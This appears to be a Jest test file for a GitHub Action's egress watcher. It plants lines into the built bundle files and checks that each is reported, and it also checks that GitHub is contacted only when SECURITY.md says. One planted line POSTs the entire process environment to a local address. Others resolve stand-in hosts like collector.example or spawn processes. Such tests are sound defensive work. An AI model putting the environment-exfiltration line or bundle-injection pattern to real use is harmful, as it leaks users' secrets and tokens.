import { cpSync, globSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve, sep } from 'node:path';

import { expect, test } from '@jest/globals';

import { makeDevices } from '../simulator/devices.ts';
import type { Fault } from '../simulator/faults.ts';
import { useFolder } from './support/folder.ts';
import { useGithub } from './support/github-fixture.ts';
import { pullRequestEvent } from './support/pull-request-event.ts';
import { tableBelow } from './support/read-markdown.ts';
import type { ActionUse } from './support/run-action.ts';
import { ARTIFACTS_TIME_SCALE, openSandbox } from './support/sandbox.ts';

const ROOT = resolve(import.meta.dirname, '..');
/** What a package could do with the environment, and how it is reported. */
const PLANTED = {
  'connect 127.0.0.1:65535': `fetch('http://127.0.0.1:65535/', { method: 'POST', body: JSON.stringify(process.env) })`,
  'resolve collector.example': `use('dns').promises.lookup('collector.example')`,
  'resolve x.example': `use('dns').promises.resolveTxt('x.example')`,
  'connect an address by UDP': `use('dgram').createSocket('udp4').unref()`,
  'connect /none': `use('net').connect('/none').on('error', () => 0)`,
  'start a process': `use('child_process').execFile('true')`,
  'start true': `use('child_process').spawnSync('true')`,
};

const folder = useFolder();
const github = useGithub();
const setUp = () => openSandbox({ timeScale: ARTIFACTS_TIME_SCALE, plan: () => makeDevices({ total: 1, seconds: 0 }) });

test.each([
  ['main', 'dist/index.js'],
  ['worker', 'dist/artifact-worker/index.js'],
])('what a package in the bundle of the %s thread does with the environment is noticed', async (thread, file) => {
  for (const path of ['dist', 'index.mjs']) cpSync(join(ROOT, path), join(folder(), path), { recursive: true });
  const lines = Object.values(PLANTED).map((line) => `Promise.resolve(${line}).catch(() => 0);\n`);
  const use = `const use = (name) => process.getBuiltinModule('node:' + name);\n`;
  const path = join(folder(), file);
  writeFileSync(path, `{\n${use}${lines.join('')}}\n${readFileSync(path, 'utf8')}`);
  const { run } = await setUp();
  const error: unknown = await run({ root: folder(), env: github.env }).catch((reason: unknown) => reason);
  const expected = Object.keys(PLANTED).map((words) => `${words} (${thread} thread)`);
  expect(String(error).split('\n').slice(1).sort()).toEqual(expected.sort());
});

/** The hosts of GitHub in SECURITY.md, by the requests that the stand-in gets in their place. */
const HOSTS = { '/twirp/': 'results-receiver', '/storage/': '*.blob', '/': 'api.github.com' };
const WHEN = ['before the create', 'until the results are fetched', 'after that'];

test('GitHub is contacted exactly when SECURITY.md says', async () => {
  const table = tableBelow(readFileSync(join(ROOT, 'SECURITY.md'), 'utf8'), '### Hosts');
  const said = (isIn: (cell: string) => boolean): readonly string[] =>
    Object.values(HOSTS).flatMap((host) => {
      const [, ...cells] = table.find(([name]) => name?.startsWith(`\`${host}`)) ?? [];
      return cells.flatMap((cell, at) => (cell !== '' && isIn(cell) ? `${host} ${WHEN[at]}` : []));
    });
  const faults: Fault[] = [];
  const plan = () => makeDevices({ total: 1, seconds: 5 });
  const { simulator, run } = await openSandbox({ timeScale: ARTIFACTS_TIME_SCALE, faults, plan });
  const asked = async (attempt: number, use: Partial<ActionUse>): Promise<readonly string[]> => {
    const [seen, before] = [new Set<string>(), simulator.journal.length];
    const note = (): Promise<void> => {
      const operations = simulator.journal.slice(before).map(({ operation }) => operation);
      const at = operations.includes('result') ? 2 : operations.includes('create') ? 1 : 0;
      const path = github.requests.at(-1)?.route.split(' ')[1] ?? '';
      seen.add(`${Object.entries(HOSTS).find(([start]) => path.startsWith(start))?.[1]} ${WHEN[at]}`);
      return Promise.resolve();
    };
    github.breakWith({ route: /^/, play: note });
    const env = { ...github.env, GITHUB_RUN_ATTEMPT: `${attempt}` };
    const { contacts } = await run({ env, event: pullRequestEvent(), ...use });
    const others = contacts.filter(({ what }) => ![simulator.url, github.url].includes(`http://${what}`));
    expect([contacts[0]?.what, others]).toEqual([new URL(simulator.url).host, []]);
    return [...seen].sort();
  };
  const all = { 'github-token': github.token, 'pr-comment': 'true', 'job-id': '5' };
  const isFirst = (cell: string): boolean => !cell.startsWith('only when a job is run again');
  expect(await asked(1, { inputs: all })).toEqual(said(isFirst).toSorted());
  expect(await asked(1, { action: 'list-scenarios', inputs: {} })).toEqual([]);
  // A testset may exist, so the receipt stays.
  faults.push({ on: 'create', times: 1, do: { kind: 'cut', at: 'applied', how: 'close' } });
  expect(String(await asked(1, { inputs: { 'github-token': '' } }))).not.toContain('api.github.com');
  expect(await asked(2, { inputs: all })).toEqual(said(() => true).toSorted());
});

test('whatever starts the bundle watches it', () => {
  const files = globSync('{__tests__,scripts,benchmarks}/**/*.{ts,js,mjs,cjs}', { cwd: ROOT });
  const starters = files.filter((path) => {
    const text = readFileSync(join(ROOT, path), 'utf8');
    const isStart = /node:(?:child_process|worker_threads)/.test(text) && /\bindex\.m?js\b|'act'/.test(text);
    return isStart && !text.includes('watchEgress(');
  });
  const others = ['archive.test.ts', 'release/repository.ts', 'workflows/support/require-act.js'];
  const onlyNamed = [
    ...others.map((name) => `__tests__/${name}`),
    'scripts/build.ts',
    'scripts/example/start-service/start.mjs',
  ];
  expect(starters.map((path) => path.replaceAll(sep, '/')).sort()).toEqual(onlyNamed);
});
